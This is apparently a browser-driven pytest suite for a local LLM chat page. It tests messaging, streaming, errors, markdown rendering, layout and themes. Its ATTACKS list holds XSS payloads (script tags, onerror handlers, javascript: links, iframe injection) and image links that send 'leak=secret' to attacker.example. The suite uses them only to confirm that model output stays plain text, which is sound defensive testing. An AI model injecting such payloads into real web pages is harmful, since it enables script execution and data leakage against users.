"""The chat at GET /, in a real browser: what it sends, what it shows, and that nothing a model says is markup."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest

from asyncllm.testing import FakeEngine, Fault, FaultPlan
from tests.server.browser import CHROMIUM, Page, browsing
from tests.server.serving import serving

pytestmark = [
    pytest.mark.anyio,
    pytest.mark.one_loop,
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is installed"),
]

ATTACKS = (
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg/onload=document.title='owned'>",
    "[link](javascript:document.title='owned')",
    "[link](java\tscript:document.title='owned') [a](  jAvAsCrIpT:x) [b](<javascript:x>) [c](data:text/html,x) [d](/x)",
    "![image](http://attacker.example/?leak=secret) ![](https://attacker.example/pixel.png)",
    '[quote](https://attacker.example/"onclick="document.title=1) <https://attacker.example/"onclick=x>',
    "**<b onmouseover=alert(1)>** `<img src=x>` # <h1>",
    "[![a](https://attacker.example/1)](https://attacker.example/2) [https://a.example](https://b.example)",
    "| <img src=x> | [t](vbscript:x) |\n|---|---|\n| <script>1</script> | **[u](javascript:x)** |",
    "- > - > 1. ```\n</pre><iframe src=\"javascript:parent.document.title='owned'\"></iframe>",
    "```<img src=x onerror=x>\n</code></pre><img src=x onerror=\"document.title='owned'\">\n```",
    "</script><style>body{display:none}</style>",
    "```python\nnever closed </code><script>document.title='owned'</script>",
)
TAGS = "A P BR HR H4 H5 H6 UL OL LI EM STRONG DEL CODE PRE DIV SPAN BUTTON BLOCKQUOTE TABLE THEAD TBODY TR TH TD"
ATTRIBUTES = "class href title target rel tabindex role aria-label type start"
MARKDOWN = {
    "a *b* **c** ***d*** ~~e~~ `f`": "<p>a <em>b</em> <strong>c</strong> <strong><em>d</em></strong> <del>e</del> "
    "<code>f</code></p>",
    "**a *b***": "<p><strong>a <em>b</em></strong></p>",
    "snake_case_name 2 * 3 * 4 **open": "<p>snake_case_name 2 * 3 * 4 **open</p>",
    "`` a ` b `` \\*c\\* `open": "<p><code>a ` b</code> *c* `open</p>",
    "one\ntwo\n\nthree": "<p>one<br>two</p><p>three</p>",
    "# A #\n### C#\n####### no": "<h4>A</h4><h6>C#</h6><p>####### no</p>",
    "1. a\n   - b\n   - c\n2. d": '<ol start="1"><li>a<ul><li>b</li><li>c</li></ul></li><li>d</li></ol>',
    "* a\n\n  b\n* c": "<ul><li>a<p>b</p></li><li>c</li></ul>",
    "> a\n> > b": "<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote>",
    "---\n\n<b>&amp;": "<hr><p>&lt;b&gt;&amp;amp;</p>",
    "[a](mailto:b@c.d) https://e.f/(g).": '<p><a href="mailto:b@c.d" title="mailto:b@c.d" target="_blank" '
    'rel="noopener noreferrer nofollow">a</a> <a href="https://e.f/(g)" title="https://e.f/(g)" target="_blank" '
    'rel="noopener noreferrer nofollow">https://e.f/(g)</a>.</p>',
    "[a](javascript:b)": "<p>[a](javascript:b)</p>",
    "x | y\n:-: | --:\n1 | `a\\|b`": '<div class="scroll" tabindex="0" role="region" aria-label="Table"><table>'
    '<thead><tr><th class="middle">x</th><th class="right">y</th></tr></thead><tbody><tr><td class="middle">1</td>'
    '<td class="right"><code>a|b</code></td></tr></tbody></table></div>',
    "```py\n*a*\n\n<b>": '<div class="code"><div class="bar"><span class="small muted">py</span>'
    '<button type="button" class="quiet">Copy</button></div><pre tabindex="0" role="region" aria-label="Code, py">'
    "<code>*a*\n\n&lt;b&gt;</code></pre></div>",
}
SLOW = (
    "*", "**a ", "_a", "`", "``a`", "[", "![", "[](", "[a](", "](", "[x](a(", "(", "\\", "> ", "- ", "1. ", "| ",
    "a|", "|-", "#", "# ", "~", "~~a", "- -", "```\n", "a\n", "\n", "  ", "\t", "<https://a", "https://",
    "https://a)))", "a\n- b\n", "**_", "`` ` ", "a| b\n-|-\n",
)  # fmt: skip
"""Repeated to 100,000 characters, each in front of a letter: what takes a parser that looks back or ahead for ever."""


@asynccontextmanager
async def chatting(folder: Path, engine: FakeEngine, **config: Any) -> AsyncIterator[Page]:
    """The page of a server of `engine`, ready to be typed into."""
    async with serving(engine, **config) as served, browsing(folder, f"{served.url}/") as page:
        await page.resize(1200, 800)
        await page.until("document.querySelectorAll('details.route').length > 10")
        await page.value("byId('user').focus()")
        yield page


async def say(page: Page, text: str) -> None:
    """Type a message, send it by the Enter key and wait for the end of its answer."""
    before = await page.value("exchanges.length")
    await page.value("byId('user').focus()")
    await page.type(text)
    await page.press("Enter")
    await page.until(f"exchanges.length === {before + 1} && running === null")


async def press_button(page: Page, number: int, place: str, name: str) -> None:
    """Press a button of an exchange's question (`asked`) or `answer`."""
    buttons = f"[...exchanges[{number}].{place}.querySelectorAll('button')]"
    await page.value(f"{buttons}.find((each) => each.textContent === '{name}').click()")


def told(page: Page) -> list[list[str]]:
    """Role and content of the messages of every request."""
    return [[f"{message['role']}: {message['content']}" for message in body["messages"]] for body in page.bodies]


async def test_a_conversation_by_keyboard_goes_on_and_is_changed(tmp_path: Path) -> None:
    async with chatting(tmp_path, FakeEngine(lambda question: f"**{question}**, *you* say")) as page:
        await page.type("one")
        await page.press("Enter", shift=True)
        await page.type("line")
        await page.press("Enter")
        await page.until("exchanges.length === 1 && running === null")
        assert await page.value("byId('user').value") == ""
        assert await page.value("document.activeElement === byId('user')")
        assert await page.value("document.querySelector('.answer .text strong').textContent") == "oneline"
        assert "stop · 24 tokens" in await page.value("document.querySelector('.foot').textContent")
        await page.value("byId('system').value = 'Be brief.'; byId('set-seed').value = '7'")
        await page.value("byId('set-top_p').value = '0.5'; byId('set-stop').value = 'x\\ny z\\n'")
        await say(page, "two")
        first, second = told(page)
        assert first == ["user: one\nline"]
        assert second == ["system: Be brief.", *first, "assistant: **one\nline**, *you* say", "user: two"]
        assert page.bodies[0].keys() == {"messages", "stream", "stream_options"}
        assert page.bodies[1] == page.bodies[1] | {"seed": 7, "top_p": 0.5, "stop": ["x", "y z"]}

        await press_button(page, 1, "answer", "Retry")
        await page.until("running === null && exchanges[1].state === 'done'")
        assert told(page)[2] == second
        await press_button(page, 0, "asked", "Edit")
        assert await page.value("document.activeElement.value") == "one\nline"
        await page.press("Escape")
        assert await page.value("document.activeElement.textContent") == "Edit"
        await press_button(page, 0, "asked", "Edit")
        await page.value("document.activeElement.select()")
        await page.type("three")
        await page.press("Enter")
        await page.until("exchanges.length === 1 && running === null && exchanges[0].state === 'done'")
        assert told(page)[3] == ["system: Be brief.", "user: three"]
        assert await page.value("document.querySelectorAll('article').length") == 2
        await page.value("byId('clear').click()")
        await say(page, "four")
        assert told(page)[4] == ["system: Be brief.", "user: four"]
        assert page.complaints == []

        await page.value("alternatives(chatFields().model)[0].enum.push('other'); showSettings()")
        assert await page.value("byId('set-seed').value") == "7"  # what was typed outlives a new description
        await page.value("byId('set-model').value = 'other'")
        await say(page, "five")
        assert page.bodies[5]["model"] == "other"
        assert await page.value("exchanges[1].name.textContent") == "other"
        assert "404 not_found_error model_not_found" in await page.value("exchanges[1].failure.textContent")


async def test_an_answer_is_stopped_cut_off_and_continued(tmp_path: Path) -> None:
    async with chatting(tmp_path, FakeEngine("abcdefgh" * 500, delay_per_token=0.002)) as page:
        await page.type("on")
        await page.press("Enter")
        await page.until("exchanges[0].text.length > 3")
        assert await page.value("byId('send').hidden && !byId('stop').hidden && byId('log').ariaBusy === 'true'")
        await page.type("typed meanwhile")
        await page.press("Enter")
        await page.press("Escape")
        await page.until("running === null")
        assert await page.value("[exchanges.length, exchanges[0].state]") == [1, "stopped"]
        assert await page.value("byId('user').value") == "typed meanwhile"
        assert "stopped by you" in await page.value("exchanges[0].foot.textContent")
        text = await page.value("exchanges[0].text")
        await page.value("byId('set-max_tokens').value = '8'")
        await press_button(page, 0, "answer", "Continue")
        await page.until("running === null && exchanges[0].ending === 'length'")
        assert told(page) == [["user: on"], ["user: on", f"assistant: {text}"]]
        assert len(await page.value("exchanges[0].text")) == len(text) + 8
        assert "length: cut off at the limit of tokens · 8 tokens" in await page.value("exchanges[0].foot.textContent")
        await page.value("byId('user').value = ''; byId('stream').checked = false")
        await say(page, "whole")
        assert len(await page.value("exchanges[1].text")) == 8
        assert "stream" not in page.bodies[-1]


async def test_errors_are_shown_as_they_are_and_leave_the_conversation_usable(tmp_path: Path) -> None:
    engine = FakeEngine("pong", faults=FaultPlan(Fault("decode", at=6)))
    async with chatting(tmp_path, engine) as page:
        await page.value("byId('set-temperature').value = 'warm'")
        await say(page, "refused")
        shown = await page.value("exchanges[0].failure.textContent")
        assert shown.startswith("400 invalid_request_error")
        assert "temperature" in shown
        assert await page.value("exchanges[0].failure.role") == "alert"
        assert "left out" in await page.value("exchanges[0].foot.textContent")
        await page.value("byId('set-temperature').value = ''")
        await say(page, "ping")
        await say(page, "broken")
        assert "server_error" in await page.value("exchanges[2].failure.textContent")
        assert told(page)[2] == ["user: ping", "assistant: pong", "user: broken"]

        error = {"message": "The model is loading.", "type": "unavailable_error", "code": "loading"}
        await page.value(
            "window.real = fetch; window.fetch = async () => "
            f"new Response({json.dumps({'error': error})!r}, {{status: 503, headers: {{'Retry-After': '1'}}}})"
        )
        await page.value("load(); showHealth()")
        await page.until("byId('notice').textContent.includes('503 unavailable_error loading: The model is loading.')")
        await page.until("byId('health').textContent === '503 The model is loading.'")
        await say(page, "early")
        assert await page.value("exchanges[3].failure.textContent") == (
            "503 unavailable_error loading: The model is loading. Retry-After: 1 s."
        )
        await page.value("window.fetch = real")
        await page.until("byId('notice').hidden")  # it tries again by itself
        await press_button(page, 3, "answer", "Retry")
        await page.until("exchanges[3].text === 'pong' && running === null")
        await page.value("window.fetch = async () => new Response('<h1>Bad gateway</h1>', {status: 502})")
        await say(page, "proxied")
        assert await page.value("exchanges[4].failure.textContent") == "502 <h1>Bad gateway</h1>"


@pytest.mark.parametrize("streams", [True, False], ids=["streamed", "whole"])
async def test_what_a_model_says_stays_text(tmp_path: Path, streams: bool) -> None:
    said = "\n\n".join(ATTACKS)
    async with serving(FakeEngine(said)) as served, browsing(tmp_path, f"{served.url}/") as page:
        await page.until("document.querySelectorAll('details.route').length > 10")
        await page.value(f"byId('stream').checked = {str(streams).lower()}; byId('set-max_tokens').value = '4000'")
        await say(page, said)
        assert await page.value("exchanges[0].text") == said
        assert await page.value("exchanges[0].asked.querySelector('.text').textContent") == said
        assert await page.value("exchanges[0].asked.querySelector('.text').children.length") == 0
        await page.value("byId('markdown').click()")
        assert await page.value("exchanges[0].body.textContent") == said
        assert await page.value("exchanges[0].body.children.length") == 0
        await page.value("byId('markdown').click()")
        assert await page.value("exchanges[0].body.children.length") > 10
        assert await page.value("document.title") == "asyncllm"
        scripts = await page.value("document.scripts.length")
        assert await page.value("document.querySelectorAll('script, style, img, svg, iframe').length") == scripts + 1
        assert page.complaints == []
        asked = {url.removeprefix(served.url) for url in page.requested}
        assert asked - {"data:,"} == {"/", "/openapi.json", "/health", "/v1/chat/completions"}


async def test_markdown_is_drawn_and_nothing_else_at_any_point_of_a_stream(tmp_path: Path) -> None:
    said = "\n\n".join((*ATTACKS[:10], *MARKDOWN, *ATTACKS[10:]))
    async with chatting(tmp_path, FakeEngine()) as page:
        await page.value(
            "window.draw = (text) => { const place = make('div'); showMarkdown(place, text); return place; }"
        )
        for source, markup in MARKDOWN.items():
            assert await page.value(f"draw({json.dumps(source)}).innerHTML") == markup, source
        # Every prefix of a hostile text, drawn into the same place as a stream is: known tags and attributes alone,
        # links that lead to known schemes, and in the end what the whole text gives.
        found = await page.value(
            f"""(() => {{
              const tags = {TAGS!r}.split(' '), attributes = {ATTRIBUTES!r}.split(' ');
              const said = {json.dumps(said)}, place = make('div'), strange = new Set();
              for (let end = 0; end <= said.length; end += 1) {{
                showMarkdown(place, said.slice(0, end));
                for (const node of place.querySelectorAll('*')) {{
                  if (!tags.includes(node.tagName)) strange.add(node.tagName);
                  for (const {{name}} of node.attributes) if (!attributes.includes(name)) strange.add(name);
                  if (node.tagName === 'A' && !/^(https?|mailto):/.test(node.href)) strange.add(node.href);
                  if (node.tagName === 'A' && node.parentElement.closest('a')) strange.add('a link in a link');
                }}
              }}
              return [[...strange], place.innerHTML === draw(said).innerHTML, place.querySelectorAll('a').length];
            }})()"""
        )
        assert found[:2] == [[], True]
        assert found[2] >= 6
        kept = await page.value(
            "(() => { const place = draw('one\\n\\ntwo'), first = place.firstChild;"
            "showMarkdown(place, 'one\\n\\ntwo three');"
            "return first === place.firstChild && place.textContent })()"
        )
        assert kept == "onetwo three"


async def test_no_text_takes_the_renderer_long(tmp_path: Path) -> None:
    async with chatting(tmp_path, FakeEngine()) as page:
        times = await page.value(
            f"""{json.dumps(SLOW)}.map((piece) => {{
              const began = performance.now();
              showMarkdown(make('div'), piece.repeat(100000 / piece.length) + 'x');
              return [performance.now() - began, piece];
            }})"""
        )
        assert max(times)[0] < 3000, sorted(times)[-3:]  # a quadratic one takes tens of seconds


async def test_it_fits_a_phone_and_says_what_everything_is(tmp_path: Path) -> None:
    wide = "W" * 300
    table = f"| {wide} | b |\n|---|---|\n| `{wide}` | d |"
    said = f"{wide} https://{wide}.example\n\n{table}\n\n```\n{wide}\n```\n\n- > {wide}"
    async with chatting(tmp_path, FakeEngine(said)) as page:
        await say(page, wide)
        await page.value("byId('request-box').open = byId('settings').open = true")
        await press_button(page, 0, "asked", "Edit")
        for width in (320, 390, 768, 1200):
            await page.resize(width, 780)
            for view in ("#chat", "#route-chat_completions"):
                await page.value(f"location.hash = {view!r}")
                await page.until("byId('chat').hidden === (location.hash !== '#chat')")
                assert await page.value("document.documentElement.scrollWidth") <= width, view
        await page.value("location.hash = '#chat'")
        await page.until("!byId('chat').hidden")
        tree = await page.call("Accessibility.getFullAXTree")
        nameless = [
            node
            for node in tree["nodes"]
            if not node.get("ignored")
            and node["role"]["value"] in ("button", "textbox", "link", "checkbox", "region", "article", "combobox")
            and not node["name"]["value"].strip()
        ]
        assert nameless == []
        assert said in await page.value("byId('spoken').textContent")


async def test_the_colours_follow_the_system_until_they_are_switched(tmp_path: Path) -> None:
    async with chatting(tmp_path, FakeEngine()) as page:
        colour = "getComputedStyle(document.body).backgroundColor"
        seen = {}
        for scheme in ("light", "dark"):
            await page.call("Emulation.setEmulatedMedia", features=[{"name": "prefers-color-scheme", "value": scheme}])
            await page.until(f"matchMedia('(prefers-color-scheme: {scheme})').matches")
            seen[scheme] = await page.value(colour)
        assert seen["light"] != seen["dark"]
        await page.value("byId('theme').click()")
        assert await page.value(colour) == seen["light"]
        await page.call("Page.reload")
        await page.until("document.querySelectorAll('details.route').length > 10")
        assert await page.value(colour) == seen["light"]
        await page.value("byId('theme').click()")
        assert await page.value(colour) == seen["dark"]
